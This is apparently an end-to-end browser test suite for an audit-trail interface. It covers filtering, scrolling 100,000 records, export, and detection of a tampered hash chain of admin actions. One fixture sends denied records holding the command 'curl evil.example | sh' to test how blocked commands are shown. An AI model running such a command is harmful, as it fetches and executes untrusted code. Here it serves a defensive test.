// The trail: searched, narrowed by time and by what there is, opened, taken away; and what people did, with its chain.

import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { AuditService, DevicesService } from '@holdfast/team'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { recordAt } from '../team/records.js'
import { examine, hasChromium, openWindow, picture, weigh } from './browser.js'
import { enrol, publishHook, type TestDevice } from './fleet.js'
import { aDayOfRecords, denied, untilCounted } from './sent.js'
import { startTeam, type TestTeam } from './team.js'

const RECORDS = 660

describe.skipIf(!hasChromium())('the trail', () => {
  let team: TestTeam
  let laptop: TestDevice
  let other: TestDevice
  beforeAll(async () => {
    team = await startTeam()
    const { hookId } = await publishHook(team)
    laptop = await enrol(team, 'ada-laptop')
    other = await enrol(team, 'build-7')
    await laptop.send(aDayOfRecords(RECORDS - 60))
    await other.send(
      aDayOfRecords(60, Date.now(), {
        hook: './only a,b.sh',
        release: 1,
        revision: 1,
        hook_id: hookId,
        conversation_id: 'c2',
      } as never),
    )
    await untilCounted(team, RECORDS)
  })
  afterAll(() => team?.stop())

  it('opens on the last day; facets, the legend and text narrow it, and the address keeps it', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit`)
    const grid = page.getByRole('grid', { name: 'Records' })
    await page.getByText(`${RECORDS} records, last 24 hours`).waitFor()
    await grid.getByRole('row').nth(5).waitFor()
    await picture(page, 'team-audit')
    await page.getByRole('checkbox', { name: /only a,b\.sh/ }).check()
    await page.getByText('60 records').waitFor()
    await page.reload()
    await page.getByText('60 records').waitFor()
    await page.getByRole('button', { name: /^deny/ }).click()
    await expect.poll(() => new URL(page.url()).searchParams.get('verdict')).toBe('deny')
    await expect.poll(() => grid.getByText('deny').count()).toBeGreaterThan(0)
    expect(await grid.getByText('allow').count()).toBe(0)
    await page.getByRole('button', { name: 'Clear the filters' }).click()
    await page.getByText(`${RECORDS} records`).waitFor()
    await page.keyboard.press('/')
    await page.keyboard.type('terraform')
    await page.getByText(`${RECORDS / 5} records`).waitFor()
    await page.keyboard.type(' nowhere')
    await page.getByRole('heading', { name: 'No records match' }).waitFor()
    await examine(page, 'no records match')
    await page.getByRole('main').getByRole('button', { name: 'Clear the filters' }).last().click()
    await page.getByText(`${RECORDS} records`).waitFor()
    await close()
  })

  it('a drag over the bars narrows the time, and one button leads back', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit`)
    await page.getByText(`${RECORDS} records`).waitFor()
    const bars = page.getByRole('slider', { name: /Records over time/ })
    const box = (await bars.boundingBox())!
    await page.mouse.move(box.x + box.width * 0.6, box.y + 20)
    await page.mouse.down()
    await page.mouse.move(box.x + box.width * 0.3, box.y + 20, { steps: 5 })
    await page.mouse.up()
    await expect.poll(() => new URL(page.url()).searchParams.get('from')).toBeTruthy()
    await page.getByText(`${RECORDS} records`).waitFor({ state: 'hidden' })
    const back = page.getByRole('button', { name: 'Back to last 24 hours' })
    await back.click()
    await page.getByText(`${RECORDS} records`).waitFor()
    expect(new URL(page.url()).searchParams.get('from')).toBeNull()
    await close()
  })

  it('a record opens whole, with its way and what was left out; keys go on to the next, and back restores', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit?verdict=deny&hook=./only a%252Cb.sh`)
    await page.getByRole('row').nth(1).waitFor()
    await page.keyboard.press('j')
    await page.keyboard.press('Enter')
    const panel = page.getByRole('complementary', { name: 'Record' })
    await panel.getByText('Force pushes are blocked here.').first().waitFor()
    await panel.getByText('request.prompt: left out (prompts)').waitFor()
    await panel.getByRole('link', { name: 'build-7' }).waitFor()
    expect(await panel.getByRole('link', { name: /revision 1/ }).getAttribute('href')).toMatch(
      /^\/hooks\/\d+\/rev\/1$/,
    )
    await picture(page, 'team-record')
    const first = new URL(page.url()).searchParams.get('record')
    await page.keyboard.press(']')
    await expect.poll(() => new URL(page.url()).searchParams.get('record')).not.toBe(first)
    await panel.getByText('Everything, as it came').click()
    await panel.getByText('"conversation_id"').waitFor()
    await page.keyboard.press('Escape')
    await panel.waitFor({ state: 'hidden' })
    await page.goBack()
    await panel.waitFor()
    await panel.getByRole('link', { name: 'build-7' }).click()
    await page.getByRole('complementary', { name: 'Device' }).getByText(other.id).waitFor()
    await close()
  })

  it('what is new waits in a strip; no row moves until it is asked for', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit`)
    const grid = page.getByRole('grid', { name: 'Records' })
    const first = grid.locator('[aria-rowindex="2"]')
    await first.waitFor()
    const before = await first.textContent()
    await laptop.send([
      denied(Date.now(), { request: { command: 'curl evil.example | sh', cwd: '/' } }),
      denied(Date.now(), { request: { command: 'curl evil.example | sh', cwd: '/' } }),
    ])
    await page.getByText('2 new records.').waitFor({ timeout: 20_000 })
    expect(await first.textContent()).toBe(before)
    await examine(page, 'with new records')
    await page.getByRole('button', { name: 'Show them' }).click()
    await first.getByText('curl evil.example | sh').waitFor()
    await page.getByText('new records').waitFor({ state: 'hidden' })
    await close()
  })

  it('goes on as one goes down, and holds few rows at a time', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit`)
    const grid = page.getByRole('grid', { name: 'Records' })
    await grid.getByRole('row').nth(5).waitFor()
    await expect
      .poll(
        async () => {
          await page.keyboard.press('End')
          return Number(await grid.getByRole('row').last().getAttribute('aria-rowindex'))
        },
        { timeout: 20_000, interval: 300 },
      )
      .toBeGreaterThan(RECORDS - 5)
    expect(await grid.getByRole('row').count()).toBeLessThan(80)
    await close()
  })

  it.each([
    ['JSON lines', 'jsonl'],
    ['OTLP', 'otlp.jsonl'],
  ])('what is filtered is taken away as %s', async (label, ending) => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit?hook=./only a%252Cb.sh`)
    await page.getByText('60 records').waitFor()
    await page.getByRole('button', { name: 'Export' }).click()
    const dialog = page.getByRole('dialog', { name: 'Export records' })
    await dialog.getByLabel(label).check()
    await examine(page, 'exporting')
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: `Export as ${label}` }).click(),
    ])
    expect(download.suggestedFilename()).toMatch(
      new RegExp(`^holdfast-audit-.*\\.${ending.replace('.', '\\.')}$`),
    )
    const file = join(mkdtempSync(join(tmpdir(), 'holdfast-export-')), 'taken')
    await download.saveAs(file)
    const lines = readFileSync(file, 'utf8')
      .trimEnd()
      .split('\n')
      .map(line => JSON.parse(line))
    const count = label === 'OTLP' ? lines.flatMap(logsIn).length : lines.length
    rmSync(dirname(file), { recursive: true })
    expect(count).toBe(60)
    await dialog.getByText(/^Done: /).waitFor()
    await close()
  })

  it('an auditor may see, search and take away all of it', async () => {
    const auditor = await team.member('auditor')
    const { page, close } = await openWindow({ cookies: auditor.cookies, width: 360, height: 740 })
    await page.goto(`${team.url}/audit?verdict=deny`)
    await page.getByRole('row').nth(1).waitFor()
    await page.getByRole('button', { name: 'Filter (1)' }).click()
    const sheet = page.getByRole('dialog', { name: 'Filter' })
    await sheet.getByRole('checkbox', { name: /build-7/ }).check()
    await examine(page, 'facets on a phone')
    await sheet.getByRole('button', { name: 'Done' }).click()
    await expect.poll(() => new URL(page.url()).searchParams.get('device')).toBe(other.id)
    expect(await page.getByRole('button', { name: 'Export' }).getAttribute('aria-disabled')).toBeNull()
    await close()
  })

  it('a server that does not answer is said, and asked again by a button', async () => {
    const { page, close } = await openWindow({
      cookies: team.owner.cookies,
      tolerate: [/ERR_FAILED|Failed to load/],
    })
    await page.route(/SearchRecords|CountRecords/, route => route.abort())
    await page.goto(`${team.url}/audit`)
    await page.getByRole('heading', { name: 'That did not load' }).waitFor()
    await page.getByText('The counts over time did not load').waitFor()
    await examine(page, 'a trail that did not load')
    await page.unroute(/SearchRecords|CountRecords/)
    await page.getByRole('alert').getByRole('button', { name: 'Try again' }).click()
    await page.getByRole('row').nth(1).waitFor()
    await close()
  })

  it.each(['/audit', '/audit/admin', '/devices', '/devices/keys', '/members', '/settings/keys'])(
    '%s loads less than 200 KB first',
    async path => {
      // A window of its own each time: what one page fetched the next would find in the cache.
      const { page, close } = await openWindow({ cookies: team.owner.cookies })
      const { kb, files } = await weigh(page, `${team.url}${path}`)
      expect(kb, files.join('\n')).toBeLessThan(200)
      expect(kb).toBeGreaterThan(100)
      await close()
    },
  )
})

const MANY = 100_000
const SENDERS = 6

describe.skipIf(!hasChromium())('a hundred thousand records', () => {
  let team: TestTeam
  let sender: TestDevice
  // The newest first, as the list has them.
  const subject = (number: number) => `make step-${number}`
  const now = Date.now() - 60_000
  const at = (number: number) => now - number * Math.floor((22 * 3_600_000) / MANY)
  beforeAll(async () => {
    team = await startTeam()
    const devices = await Promise.all(
      Array.from({ length: SENDERS }, (_, index) => enrol(team, `build-${index + 1}`)),
    )
    sender = devices[0]!
    const began = Date.now()
    await Promise.all(
      devices.map(async (device, index) => {
        const numbers = Array.from({ length: MANY }, (_, number) => MANY - 1 - number)
        const own = numbers.filter(number => number % SENDERS === index)
        await device.send(
          own.map(number =>
            (number % 4 === 0 ? denied : recordAt)(at(number), {
              request: { command: subject(number), cwd: '/' },
            }),
          ),
        )
      }),
    )
    await untilCounted(team, MANY)
    console.info(`${MANY} records were sent and counted in ${Date.now() - began} ms`)
  }, 120_000)
  afterAll(() => team?.stop())

  const look = async (path = '/audit') => {
    const window = await openWindow({ cookies: team.owner.cookies })
    await window.page.goto(`${team.url}${path}`)
    await rows(window.page).first().waitFor()
    return window
  }

  it('are all there, few of them drawn and at most 5,000 in memory; the far end and the way back are right', async () => {
    const { page, close } = await look()
    await page.getByText('100,000 records, last 24 hours').waitFor()
    expect(await grid(page).getAttribute('aria-rowcount')).toBe(String(MANY + 1))
    expect(await recordsIn(page)).toBeLessThanOrEqual(100)
    // One is open all the while.
    await rows(page).nth(5).click()
    const panel = page.getByRole('complementary', { name: 'Record' })
    await panel.getByText(subject(5)).first().waitFor()

    await toFarEnd(page)
    await expectRight(page, MANY - 1)
    expect(await grid(page).getAttribute('aria-rowcount')).toBe(String(MANY + 1))
    expect(await rows(page).count()).toBeLessThan(80)
    // And those of the newest, which were read to see what is new.
    expect(await recordsIn(page)).toBeLessThanOrEqual(5000 + 101)
    expect(await panel.getByText(subject(5)).count()).toBeGreaterThan(0)
    await page.keyboard.press(']')
    await panel.getByText(subject(6)).first().waitFor()
    await expectRight(page, 6)

    const frames = await grid(page).evaluate(async element => {
      const took: number[] = []
      let last = performance.now()
      for (let frame = 0; frame < 150; frame++) {
        element.scrollTop += 160
        await new Promise(requestAnimationFrame)
        const now = performance.now()
        took.push(now - last)
        last = now
      }
      return took.sort((a, b) => a - b)
    })
    console.info(`frames while scrolling: p50 ${frames[75]!.toFixed()} ms, p95 ${frames[142]!.toFixed()} ms`)
    expect(frames[142]).toBeLessThan(250)
    for (const row of [50_000, 49_000, 99_000, 20_000, 0]) {
      await scrollToRow(page, row)
      await expectRight(page, row)
    }
    expect(await rows(page).count()).toBeLessThan(80)
    expect(await recordsIn(page)).toBeLessThanOrEqual(5000 + 101)
    await close()
  }, 180_000)

  it('are walked by keys over the borders of pages, also where they were let go', async () => {
    const { page, close } = await look('/audit?verdict=deny')
    await page.getByText('25,000 records').waitFor()
    const selected = () => page.locator('[aria-selected="true"]').first()
    const expectOn = async (row: number) => {
      await expect.poll(() => selected().getAttribute('aria-rowindex')).toBe(String(row + 2))
      await expect.poll(() => selected().textContent()).toContain(`${subject(row * 4)}build`)
    }
    const press = async (key: string, times: number) => {
      for (let time = 0; time < times; time++) await page.keyboard.press(key)
    }
    // The first page has 100 rows, the others 200.
    await press('j', 106)
    await expectOn(105)
    await press('k', 10)
    await expectOn(95)
    await toFarEnd(page)
    await scrollToRow(page, 10_100)
    await expectRight(page, 10_100, 4)
    await rows(page).nth(12).click()
    const start = Number(await selected().getAttribute('aria-rowindex')) - 2
    await press('k', 30)
    await expectOn(start - 30)
    await page.keyboard.press('End')
    await expectOn(24_999)
    await page.keyboard.press('k')
    await expectOn(24_998)
    await page.keyboard.press('Enter')
    await page
      .getByRole('complementary', { name: 'Record' })
      .getByText(subject(24_998 * 4))
      .first()
      .waitFor()
    for (let step = 0; step < 3; step++) await page.keyboard.press('[')
    await page
      .getByRole('complementary', { name: 'Record' })
      .getByText(subject(24_995 * 4))
      .first()
      .waitFor()
    await page.keyboard.press('Escape')
    await page.keyboard.press('Home')
    await expectOn(0)
    await close()
  }, 120_000)

  it('stand where they stood for who comes back', async () => {
    const { page, close } = await look()
    for (let row = 1000; row <= 8000; row += 1000) await readTo(page, row)
    await scrollToRow(page, 7000)
    await expectRight(page, 7000)
    await page.keyboard.press('j')
    await rows(page).nth(12).click()
    await page.keyboard.press('Escape')
    const top = await grid(page).evaluate(element => element.scrollTop)
    const chosen = await page.locator('[aria-selected="true"]').textContent()
    await page.getByRole('link', { name: 'Admin actions' }).click()
    await page.getByRole('grid', { name: 'Admin actions' }).waitFor()
    await page.goBack()
    await page.goBack()
    await expectRight(page, 7000)
    expect(await grid(page).evaluate(element => element.scrollTop)).toBe(top)
    expect(await page.locator('[aria-selected="true"]').first().textContent()).toBe(chosen)
    await close()
  }, 90_000)

  // The last one: from here on the rows have other numbers.
  it('new ones wait while one reads far below; late ones stand where they belong, and nothing stands twice', async () => {
    const { page, close } = await look()
    for (let row = 1000; row <= 12_000; row += 1000) await readTo(page, row)
    await scrollToRow(page, 11_500)
    await expectRight(page, 11_500)
    const top = await grid(page).evaluate(element => element.scrollTop)
    await sender.send([
      recordAt(at(0) + 1000, { request: { command: 'newest', cwd: '/' } }),
      recordAt(at(2000) + 1, { request: { command: 'came late', cwd: '/' } }),
    ])
    await page.getByText('1 new record.').waitFor({ timeout: 20_000 })
    await page.getByText('100,002 records').waitFor()
    // The strip pushes them by its own height, and the list scrolls by as much.
    expect(await grid(page).evaluate(element => element.scrollTop)).toBe(top + 28)
    await expectRight(page, 11_500)
    await scrollToRow(page, 1990)
    await page.getByText('came late').waitFor()
    const words = await rows(page).evaluateAll(all =>
      all.map(row => /step-\d+|came late/.exec(row.textContent!)?.[0]),
    )
    const late = words.indexOf('came late')
    expect(words.slice(late - 1, late + 2)).toEqual(['step-1999', 'came late', 'step-2000'])
    expect(new Set(words).size).toBe(words.length)
    await scrollToRow(page, 11_501)
    await expect.poll(() => rows(page).first().textContent()).toMatch(/step-/)
    const index = Number(await rows(page).first().getAttribute('aria-rowindex')) - 2
    expect(await rows(page).first().textContent()).toContain(`${subject(index - 1)}build`)
    await page.getByRole('button', { name: 'Show them' }).click()
    await rows(page).first().getByText('newest').waitFor()
    expect(await grid(page).getAttribute('aria-rowcount')).toBe(String(MANY + 3))
    await close()
  }, 90_000)
})

const grid = (page: Page) => page.getByRole('grid', { name: 'Records' })
/** Those that are drawn, without the head and the strip. */
const rows = (page: Page) => grid(page).getByRole('rowgroup').getByRole('row')

const ROW_PX = 32

const scrollToRow = (page: Page, row: number) =>
  grid(page).evaluate((element, top) => {
    element.scrollTop = top
  }, row * ROW_PX)

/** Reads on until there are so many rows. */
const readTo = (page: Page, row: number) =>
  grid(page).evaluate(async (element, height) => {
    while (element.scrollHeight < height) {
      element.scrollTop = element.scrollHeight
      await new Promise(requestAnimationFrame)
    }
  }, row * ROW_PX)

async function toFarEnd(page: Page): Promise<void> {
  const began = Date.now()
  const count = Number(await grid(page).getAttribute('aria-rowcount'))
  await readTo(page, count - 1)
  await scrollToRow(page, count)
  console.info(`${count - 1} rows were read to the end in ${Date.now() - began} ms`)
}

/** Each row that is drawn says what the row of its number must say, and this row is among them. */
async function expectRight(page: Page, row: number, every = 1): Promise<void> {
  await expect
    .poll(
      async () => {
        const drawn = await rows(page).evaluateAll(all =>
          all.map(one => [Number(one.getAttribute('aria-rowindex')) - 2, one.textContent!] as const),
        )
        const wrong = drawn.filter(([index, words]) => !words.includes(`make step-${index * every}build`))
        return { wrong, isThere: drawn.some(([index]) => index === row) }
      },
      { timeout: 15_000 },
    )
    .toEqual({ wrong: [], isThere: true })
}

/** How many records the page holds in memory, counted by the browser itself after it has thrown away what it can. */
async function recordsIn(page: Page): Promise<number> {
  const session = await page.context().newCDPSession(page)
  const { result } = await session.send('Runtime.evaluate', { expression: 'Object.prototype' })
  const { objects } = await session.send('Runtime.queryObjects', { prototypeObjectId: result.objectId! })
  const { result: count } = await session.send('Runtime.callFunctionOn', {
    objectId: objects.objectId!,
    functionDeclaration: `function () {
      return this.filter(one => Object.hasOwn(one, '$typeName') && one.$typeName === 'holdfast.team.v1.Record').length
    }`,
    returnByValue: true,
  })
  await session.detach()
  return count.value as number
}

interface Logs {
  readonly resourceLogs: { readonly scopeLogs: { readonly logRecords: unknown[] }[] }[]
}
const logsIn = ({ resourceLogs }: Logs) =>
  resourceLogs.flatMap(({ scopeLogs }) => scopeLogs.flatMap(({ logRecords }) => logRecords))

describe.skipIf(!hasChromium())('what people did', () => {
  let team: TestTeam
  beforeAll(async () => {
    team = await startTeam()
    await team.owner.as(DevicesService).createEnrolmentKey({ note: 'for the fleet', maxUses: 3, hours: 2 })
    await enrol(team, 'ada-laptop')
  })
  afterAll(() => team?.stop())

  it('stands newest first with the state of its chain; machines are hidden and counted', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit/admin`)
    const { verifiedTo, headHash } = await team.owner.as(AuditService).verifyChain({})
    const chain = page.getByRole('region', { name: 'Chain of actions' })
    await chain.getByText(`Verified to action ${verifiedTo}`).waitFor()
    expect(await chain.locator('code').first().getAttribute('title')).toBe(headHash)
    const grid = page.getByRole('grid', { name: 'Admin actions' })
    await grid.getByText('made the enrolment key').first().waitFor()
    expect(await grid.getByText('founded the team').count()).toBe(0)
    const machines = page.getByRole('checkbox', { name: /Show what the server and devices did: \d+ action/ })
    await machines.check()
    await grid.getByText('founded the team').waitFor()
    await chain.getByRole('button', { name: 'Without trusting this server' }).click()
    await chain.getByText(/holdfast audit verify --server/).waitFor()
    await picture(page, 'team-admin')
    await page.keyboard.press('/')
    await page.keyboard.type('enrolment')
    await expect.poll(() => grid.getByText('founded the team').count()).toBe(0)
    await grid.getByText('made the enrolment key').last().click()
    const panel = page.getByRole('complementary', { name: 'Action' })
    await panel.getByText('for the fleet').waitFor()
    await examine(page, 'an action')
    await close()
  })

  it('says where a chain is broken, also when it broke after one looked', async () => {
    const { page, close } = await openWindow({ cookies: team.owner.cookies })
    await page.goto(`${team.url}/audit/admin`)
    const chain = page.getByRole('region', { name: 'Chain of actions' })
    await chain.getByText(/Verified to action/).waitFor()
    const { db } = team.server.team.store
    await db.updateTable('admin_actions').set({ actor: 'somebody@else' }).where('seq', '=', 2).execute()
    await chain.getByRole('button', { name: 'Verify now' }).click()
    await chain.getByText(/The chain is altered after action 1/).waitFor()
    await examine(page, 'a broken chain')
    await close()
  })
})
